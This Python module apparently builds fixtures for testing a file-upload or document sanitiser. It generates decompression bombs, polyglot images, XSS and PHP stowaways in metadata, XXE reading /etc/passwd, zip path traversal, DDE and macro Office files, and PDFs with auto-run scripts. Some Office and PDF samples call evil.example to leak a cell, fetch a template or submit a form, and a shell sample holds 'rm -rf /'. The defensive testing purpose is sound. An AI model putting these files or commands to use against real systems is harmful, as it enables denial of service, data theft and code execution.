"""Files made to break whoever opens them, and honest files with stowaways. Everything is made here; nothing is foreign."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

CANARY = b"CANARY-31.2304N-121.4737E"
SCRIPT = b"<script>alert('CANARY-31.2304N-121.4737E')</script>"
PHP = b"<?php system('CANARY-31.2304N-121.4737E'); ?>"


def picture(kind="JPEG", mode="RGB", size=(64, 48), **told):
    """A small honest picture."""
    written = io.BytesIO()
    image = Image.radial_gradient("L").resize(size).convert(mode)
    image.save(written, kind, **told)
    return written.getvalue()


# PNG ---------------------------------------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n"


def chunk(name, content, crc=None):
    return (
        struct.pack("!I", len(content))
        + name
        + content
        + struct.pack("!I", zlib.crc32(name + content) if crc is None else crc)
    )


def png(width, height, *, data=b"", depth=8, colour=2, extra=b"", end=True):
    header = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG + header + extra + chunk(b"IDAT", data) + (chunk(b"IEND", b"") if end else b"")


def zeros(count):
    packer = zlib.compressobj(9)
    piece = bytes(1_000_000)
    return b"".join(packer.compress(piece) for _ in range(count // 1_000_000)) + packer.flush()


# JPEG --------------------------------------------------------------------------------------------------------------


def with_segment(marker, content):
    """An honest JPEG with one more segment after its beginning."""
    honest = picture()
    return honest[:2] + b"\xff" + bytes([marker]) + struct.pack("!H", len(content) + 2) + content + honest[2:]


def jpeg_of_size(width, height):
    """A JPEG whose header claims another size than it has."""
    honest = bytearray(picture())
    at = honest.index(b"\xff\xc0") + 5
    honest[at : at + 4] = struct.pack("!HH", height, width)
    return bytes(honest)


def exif(**more):
    told = Image.Exif()
    told[0x010E], told[0x013B], told[0x8298] = CANARY.decode(), "王CANARY", PHP.decode()
    told.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 49.0), 3: "E", 4: (121.0, 28.0, 25.0), 29: CANARY.decode()})
    return told.tobytes()


def gif_with(comment):
    """A GIF with a comment before its picture."""
    honest = picture("GIF", "P")
    at = 13 + 3 * 2 ** ((honest[10] & 7) + 1)
    blocks = b"".join(bytes([len(part)]) + part for part in (comment[i : i + 255] for i in range(0, len(comment), 255)))
    return honest[:at] + b"!\xfe" + blocks + b"\x00" + honest[at:]


# Archives ----------------------------------------------------------------------------------------------------------

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def types(main=WORD):
    return f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'


def archive(entries, **told):
    """An archive of these entries; a value may be a pair of ZipInfo and content."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, **told) as packed:
        for name, content in entries.items() if isinstance(entries, dict) else entries:
            packed.writestr(name, content)
    return written.getvalue()


def office(main=WORD, **parts):
    """A document with more parts than it needs; `__` in a name stands for a slash."""
    named = {
        "[Content_Types].xml": types(main),
        "word/document.xml": "<w:document xmlns:w='w'><w:t>你好</w:t></w:document>",
    }
    return archive(named | {name.replace("__", "/"): content for name, content in parts.items()})


def relation(kind, target, mode="External"):
    return f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def workbook(cell):
    return office(SHEET, **{"xl__worksheets__sheet1.xml": f"<worksheet><c><f>{cell}</f></c></worksheet>"})


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;">]><x>&e;&e;&e;</x>'
)


def overlapping():
    """An archive whose two entries are the same bytes."""
    whole = bytearray(office())
    at = [place for place in range(len(whole)) if whole[place : place + 4] == b"PK\x01\x02"]
    first = whole[at[0] + 42 : at[0] + 46]
    whole[at[1] + 42 : at[1] + 46] = first
    return bytes(whole)


def lying():
    """An archive that claims other sizes than its entries have."""
    whole = bytearray(office(word__big="x" * 5000))
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 77)
    return bytes(whole)


def locked():
    """An archive whose entries say that they are encrypted."""
    whole = bytearray(office())
    for place in range(len(whole)):
        if whole[place : place + 4] == b"PK\x01\x02":
            whole[place + 8] |= 1
    return bytes(whole)


def linked():
    entry = zipfile.ZipInfo("word/link.xml")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return archive([("[Content_Types].xml", types()), (entry, "/etc/passwd")])


# PDF ---------------------------------------------------------------------------------------------------------------


def pdf(
    *objects,
    catalogue=b"",
    pages=b"[3 0 R]",
    count=1,
    page=b"",
    content=b"0 0 1 rg 10 10 100 100 re f",
    head=b"%PDF-1.7\n",
    trailer=b"",
):
    """A PDF of one page; what is given goes into the catalogue, the page, its content, or stands as objects of its own."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids " + pages + b" /Count " + str(count).encode() + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R " + page + b" >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        *objects,
    ]
    written, places = head, []
    for number, body in enumerate(bodies, start=1):
        places.append(len(written))
        written += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    at = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    return written + b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, at)


def packed_script():
    """A PDF whose script stands in a packed stream of objects."""
    inner = b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(inner)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )
    return pdf(stream)


def many_pages(count):
    kids = b"[" + b"3 0 R " * count + b"]"
    return pdf(pages=kids, count=count)


def bursting():
    packed = zeros(900_000_000)
    return pdf(b"<< /Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8"
               b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream",
               page=b"/Resources << /XObject << /I 5 0 R >> >>", content=b"300 0 0 400 0 0 cm /I Do")  # fmt: skip


def endless():
    """A page that paints its whole surface through a soft shading hundreds of thousands of times."""
    shading = b"<< /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 300 400] /Extend [true true]" \
              b" /Function << /FunctionType 2 /Domain [0 1] /C0 [1 0 0] /C1 [0 0 1] /N 1 >> >>"  # fmt: skip
    return pdf(shading, page=b"/Resources << /Shading << /S 5 0 R >> >>", content=b"/S sh\n" * 60_000)


def rc4(key, content):
    box, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    for byte in content:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def encrypted(password=b""):
    """A PDF under the standard handler (revision 2); without a password anybody opens it, but it may not be printed."""
    owner, identity = bytes(range(32)), b"\x01" * 16
    key = hashlib.md5((password + PADDING)[:32] + owner + struct.pack("<i", -64) + identity).digest()[:5]
    user = rc4(key, PADDING)
    about = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -64 >> /ID [<%s> <%s>]" % (
        owner.hex().encode(), user.hex().encode(), identity.hex().encode(), identity.hex().encode(),
    )  # fmt: skip
    return pdf(trailer=about)


# The lists ---------------------------------------------------------------------------------------------------------


def noise(count):
    return random.Random(7).randbytes(count)


ALIEN = {
    "nothing": lambda: b"",
    "a single null": lambda: b"\x00",
    "noise": lambda: b"\x01" + noise(5000),
    "a windows program": lambda: b"MZ\x90\x00" + noise(400),
    "an elf program": lambda: b"\x7fELF\x02\x01\x01\x00" + noise(400),
    "a mach-o program": lambda: b"\xcf\xfa\xed\xfe" + noise(400),
    "a java class": lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + noise(99),
    "a shortcut": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + noise(99),
    "a help file": lambda: b"ITSF\x03\x00\x00\x00" + noise(99),
    "a bitmap": lambda: picture("BMP"),
    "an icon": lambda: picture("ICO"),
    "a tiff": lambda: picture("TIFF"),
    "a photoshop file": lambda: b"8BPS\x00\x01" + bytes(99),
    "a jpeg 2000": lambda: b"\x00\x00\x00\x0cjP  \r\n\x87\n" + noise(99),
    "a heic": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00" + noise(999),
    "an avif": lambda: picture("AVIF"),
    "a film": lambda: b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00" + noise(999),
    "a sound": lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(30),
    "a 7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + noise(99),
    "a rar": lambda: b"Rar!\x1a\x07\x01\x00" + noise(99),
    "a gzip": lambda: b"\x1f\x8b\x08\x00" + noise(99),
    "an old word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(999),
    "a flash film": lambda: b"FWS\x0a\x00\x01" + noise(99),
    "a database": lambda: b"SQLite format 3\x00" + bytes(99),
}
TEXTS = {
    "a web page": lambda: b"<!DOCTYPE html><html>" + SCRIPT,
    "a web page named as a picture": lambda: b"<html><body onload=alert(1)>",
    "a web page after a mark": lambda: b"\xef\xbb\xbf<html>" + SCRIPT,
    "a web page in utf-16": lambda: "<html><script>alert(1)</script>".encode("utf-16"),
    "a web page in utf-16 of the other order": lambda: b"\xfe\xff" + "<svg onload=alert(1)>".encode("utf-16-be"),
    "a script in utf-7": lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a web page far below": lambda: b"hello\n" * 2000 + SCRIPT,
    "an svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "an svg after blanks": lambda: b"\n\n   <!-- a picture -->\n<svg onload='alert(1)'/>",
    "an xml with entities": lambda: LAUGHS.encode(),
    "an xml that reads a file": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
    ),
    "a php program": lambda: PHP,
    "a shell program": lambda: b"#!/bin/sh\nrm -rf /\n",
    "a postscript": lambda: b"%!PS-Adobe-3.0\n(x) run\n",
    "a rich text": lambda: b"{\\rtf1\\ansi {\\object\\objdata 0105}}",
    "a mail": lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
    "a null far below": lambda: b"hello\n" * 2000 + b"\x00\x00" + SCRIPT,
    "an escape far below": lambda: b"hello\n" * 2000 + b"\x1b]0;x\x07",
    "a long text": lambda: b"x,y\n" * 300_000,
    "a cell of ten megabytes": lambda: b'a,"' + b"x" * 10_000_000 + b'"\n',
    "broken signs": lambda: b"abc \x81\x30\xff\xff abc " * 50,
    "nothing but invisible signs": lambda: "\u202e\u200b\u2066\ufeff".encode() * 20,
}
PICTURES = {
    "a jpeg cut off": lambda: picture(size=(640, 480))[:2000],
    "a jpeg's beginning": lambda: b"\xff\xd8\xff\xe0",
    "a jpeg's sign before a web page": lambda: b"\xff\xd8\xff" + SCRIPT,
    "a jpeg of 65,500 by 65,500": lambda: jpeg_of_size(65_500, 65_500),
    "a jpeg of no width": lambda: jpeg_of_size(0, 48),
    "a png cut off": lambda: picture("PNG", size=(640, 480))[:900],
    "a png's sign before noise": lambda: PNG + noise(999),
    "a png of 50,000 by 50,000": lambda: png(50_000, 50_000, data=zeros(9_000_000)),
    "a png of one by two thousand million": lambda: png(1, 2**31 - 1, data=zeros(9_000_000)),
    "a png of four thousand million by one": lambda: png(2**32 - 1, 1, data=zeros(1_000_000)),
    "a png of nothing": lambda: png(0, 0),
    "a png of 13 bits": lambda: png(8, 8, depth=13, data=zlib.compress(bytes(999))),
    "a png that unpacks to nothing": lambda: png(64, 64, data=zlib.compress(b"")),
    "a png with a wrong sum": lambda: PNG + chunk(b"IHDR", struct.pack("!IIBBBBB", 8, 8, 8, 2, 0, 0, 0), crc=1),
    "a png with a text that bursts": lambda: png(8, 8, data=zlib.compress(bytes(999)), extra=chunk(b"zTXt", b"a\x00\x00" + zeros(300_000_000))),
    "a png with a chunk of four thousand million": lambda: PNG + struct.pack("!I", 2**32 - 1) + b"IHDR" + bytes(20),
    "a gif of 65,535 by 65,535": lambda: b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x00\x00\x00;",
    "a gif without a picture": lambda: b"GIF89a" + struct.pack("<HH", 8, 8) + b"\x00\x00\x00;",
    "a gif that is a script": lambda: b"GIF89a/*" + bytes(6) + b"*/=1;alert(1)//",
    "a gif with a frame beyond its edge": lambda: b"GIF89a" + struct.pack("<HH", 8, 8) + b"\x00\x00\x00," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0x80) + bytes(6) + b"\x02\x02L\x01\x00;",
    "a webp of 16,383 by 16,383": lambda: picture("WEBP", size=(16_383, 3_000)),
    "a webp cut off": lambda: picture("WEBP", size=(640, 480))[:200],
    "a webp's sign before noise": lambda: b"RIFF\xff\x00\x00\x00WEBPVP8 " + noise(300),
}  # fmt: skip
ARCHIVES = {
    "an archive": lambda: archive({"a.txt": "x"}),
    "a java archive": lambda: archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}),
    "a flat bomb": lambda: office(word__big=bytes(150_000_000)),
    "a dense entry": lambda: office(word__big=bytes(30_000_000)),
    "a nested bomb": lambda: office(word__inner=archive({"x": bytes(50_000_000)})),
    "overlapping entries": overlapping,
    "sizes that lie": lying,
    "an encrypted archive": locked,
    "a path that climbs": lambda: archive({"[Content_Types].xml": types(), "../../etc/cron.d/x": "x"}),
    "a path from the root": lambda: archive({"[Content_Types].xml": types(), "/etc/passwd": "x"}),
    "a path of a drive": lambda: archive({"[Content_Types].xml": types(), "C:evil.xml": "x"}),
    "a link": linked,
    "65,536 entries": lambda: archive({"[Content_Types].xml": types()} | {f"{place:x}": b"" for place in range(65_536)}),
    "a name twice": lambda: office(**{"WORD__DOCUMENT.XML": "<x/>"}),
    "an archive cut off": lambda: office()[:-30],
    "an archive's sign before noise": lambda: b"PK\x03\x04" + noise(400),
    "a document without types": lambda: archive({"word/document.xml": "<x/>"}),
    "a document with macros": lambda: office("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a document with a hidden macro": lambda: office(word__vbaProject_bin=b"\xd0\xcf\x11\xe0", **{"word/vbaProject.bin": b"x"}),
    "a document with a template elsewhere": lambda: office(**{"word___rels__settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}),
    "a document with a picture elsewhere": lambda: office(**{"word___rels__document.xml.rels": relation("image", "http://evil.example/x.png")}),
    "a document with a frame elsewhere": lambda: office(**{"word___rels__webSettings.xml.rels": relation("frame", "file://evil/x")}),
    "a document with a type declaration": lambda: office(word__x_xml="", **{"word__styles.xml": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'}),
    "a document with entities": lambda: office(**{"word__styles.xml": LAUGHS}),
    "a document with an embedded object": lambda: office(**{"word__embeddings__oleObject1.bin": b"x"}),
    "a document with a program": lambda: office(**{"word__media__image1.png": b"MZ\x90\x00" + noise(99)}),
    "a document with dde": lambda: office(**{"word__header1.xml": "<w:p xmlns:w='w'><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:p>"}),
    "a document with a split field": lambda: office(**{"word__header1.xml": "<w:p xmlns:w='w'><w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText></w:p>"}),
    "a document with a simple field": lambda: office(**{"word__header1.xml": "<w:p xmlns:w='w'><w:fldSimple w:instr='INCLUDETEXT http://evil.example/x'/></w:p>"}),
    "a document with active controls": lambda: office(**{"word__activeX__activeX1.xml": "<x/>"}),
    "a document with broken xml": lambda: office(**{"word__styles.xml": "<x><y></x>"}),
    "a workbook with macros": lambda: office("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "a workbook with a link elsewhere": lambda: office(SHEET, **{"xl__externalLinks__externalLink1.xml": "<x/>"}),
    "a workbook with a macro sheet": lambda: office(SHEET, **{"xl__macrosheets__sheet1.xml": "<x/>"}),
    "a workbook with connections": lambda: office(SHEET, **{"xl__connections.xml": "<x/>"}),
    "a workbook with dde": lambda: workbook("cmd|'/c calc'!A0"),
    "a workbook that asks the web": lambda: workbook('WEBSERVICE("http://evil.example/"&amp;A1)'),
    "a workbook with a type declaration": lambda: office(SHEET, **{"xl__workbook.xml": LAUGHS}),
    "a binary workbook": lambda: office("application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
}  # fmt: skip
PAPERS = {
    "a pdf with a script": lambda: pdf(catalogue=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "a pdf with a script by number": lambda: pdf(catalogue=b"/OpenAction << /S /#4aavaScript /#4a#53 (app.alert(1)) >>"),
    "a pdf with a named script": lambda: pdf(b"<< /S /JavaScript /JS (x) >>", catalogue=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"),
    "a pdf with a packed script": packed_script,
    "a pdf with a script on its page": lambda: pdf(page=b"/AA << /O << /S /JavaScript /JS (x) >> >>"),
    "a pdf that starts a program": lambda: pdf(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "a pdf with a file": lambda: pdf(b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>", b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream", catalogue=b"/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>"),
    "a pdf that sends a form": lambda: pdf(page=b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>"),
    "a pdf that opens another": lambda: pdf(catalogue=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0] >>"),
    "a pdf that imports": lambda: pdf(catalogue=b"/OpenAction << /S /ImportData /F (x.fdf) >>"),
    "a pdf with a living form": lambda: pdf(catalogue=b"/AcroForm << /XFA 5 0 R /Fields [] >>"),
    "a pdf with media": lambda: pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
    "a pdf under a password": lambda: encrypted(b"secret"),
    "a pdf that may not be printed": encrypted,
    "a pdf of 10,000 pages": lambda: many_pages(10_000),
    "a pdf of 21 pages": lambda: many_pages(21),
    "a pdf cut off": lambda: pdf()[:120],
    "a pdf's sign alone": lambda: b"%PDF-1.7\n",
    "a pdf's sign before noise": lambda: b"%PDF-1.4\n" + noise(3000),
    "a pdf without pages": lambda: pdf(pages=b"[]", count=0),
    "a pdf whose tree bites its tail": lambda: pdf(pages=b"[2 0 R]"),
    "a pdf whose objects are each other": lambda: pdf(b"6 0 R", b"5 0 R", pages=b"5 0 R", catalogue=b"/Outlines 5 0 R"),
    "a pdf that paints without end": endless,
    "a pdf after a web page": lambda: b"<html>" + SCRIPT + pdf(),
}  # fmt: skip
EVIL = ALIEN | TEXTS | PICTURES | ARCHIVES | PAPERS


def with_text(kind, **told):
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", SCRIPT.decode())
    about.add_text("Location", CANARY.decode(), zip=True)
    return picture(kind, pnginfo=about, **told)


def two_pictures():
    """A JPEG that carries a second one, as some telephones make them."""
    written = io.BytesIO()
    second = Image.new("RGB", (64, 48), "red")
    Image.new("RGB", (64, 48), "blue").save(written, "MPO", save_all=True, append_images=[second], exif=exif())
    return written.getvalue()


def moving(kind, count):
    written = io.BytesIO()
    frames = [Image.new("RGB", (40, 30), (place % 256, place // 2 % 256, 9)) for place in range(count)]
    frames[0].save(written, kind, save_all=True, append_images=frames[1:], duration=1)
    return written.getvalue()


CARRIERS = {
    "a jpeg with a place": lambda: picture(exif=exif()),
    "a jpeg with a place, upside down": lambda: picture(exif=turned()),
    "a jpeg with a comment": lambda: picture(comment=PHP),
    "a jpeg with xmp": lambda: with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"),
    "a jpeg with iptc": lambda: with_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x1d\x1c\x02\x50\x00\x19" + CANARY),
    "a jpeg with a colour profile of junk": lambda: picture(icc_profile=noise(3000) + CANARY),
    "a jpeg with a segment of nobody": lambda: with_segment(0xEF, PHP + CANARY),
    "a jpeg before an archive": lambda: picture() + archive({"x.php": PHP}) + CANARY,
    "a jpeg before a web page": lambda: picture() + SCRIPT,
    "two jpegs in one": two_pictures,
    "a png with texts": lambda: with_text("PNG"),
    "a png with a place": lambda: picture("PNG", exif=exif()),
    "a png with a colour profile of junk": lambda: picture("PNG", icc_profile=noise(3000) + CANARY),
    "a png before a web page": lambda: picture("PNG") + SCRIPT,
    "a png with more than it says": lambda: png(8, 8, data=zeros(400_000_000)) + CANARY,
    "a webp with a place": lambda: picture("WEBP", exif=exif(), xmp=CANARY, icc_profile=CANARY * 9),
    "a gif with a comment": lambda: gif_with(PHP + CANARY),
    "a gif that is a script as well": lambda: picture("GIF", "P") + b"=1;" + SCRIPT,
    "a moving gif": lambda: moving("GIF", 600),
    "a moving webp": lambda: moving("WEBP", 300),
    "a moving png": lambda: moving("PNG", 100),
    "a pdf that unpacks to nine hundred megabytes": bursting,
    "a pdf with an author": lambda: pdf(b"<< /Author (" + CANARY + b") /Creator (" + CANARY + b") >>", trailer=b"/Info 5 0 R"),
    "a pdf with words": lambda: pdf(content=b"% " + CANARY),
    "a text that turns around": lambda: "报告 \u202egpj.exe\u202c 完".encode(),
}  # fmt: skip


def turned():
    told = Image.Exif()
    told[0x0112], told[0x010E] = 6, CANARY.decode()
    return told.tobytes()


GOOD = {
    "jpeg": picture,
    "jpeg, grey": lambda: picture(mode="L"),
    "jpeg, of a printer": lambda: picture(mode="CMYK"),
    "jpeg, progressive": lambda: picture(progressive=True),
    "png": lambda: picture("PNG"),
    "png, see-through": lambda: picture("PNG", "RGBA"),
    "png, with a palette": lambda: picture("PNG", "P"),
    "png, black and white": lambda: picture("PNG", "1"),
    "png, deep": lambda: picture("PNG", "I;16"),
    "webp": lambda: picture("WEBP"),
    "gif": lambda: picture("GIF", "P"),
    "pdf": pdf,
    "pdf of twenty pages": lambda: many_pages(20),
    "text": lambda: "批号,重量\r\nA1,3.5\r\n".encode(),
    "text, national": lambda: "滴滴涕及其代谢物 DDE 含量".encode("gb18030"),
    "text, marked": lambda: "你好".encode("utf-8-sig"),
    "text, of windows": lambda: "你好 hello".encode("utf-16"),
}
SEALED_ONLY = {
    "document": office,
    "document about DDE": lambda: office(**{"word__header1.xml": "<w:t xmlns:w='w'>DDE 0.1 mg/kg</w:t>"}),
    "document with a link": lambda: office(**{"word___rels__document.xml.rels": relation("hyperlink", "https://example.org/")}),
    "workbook": lambda: workbook("SUM(A1:A3)"),
}  # fmt: skip
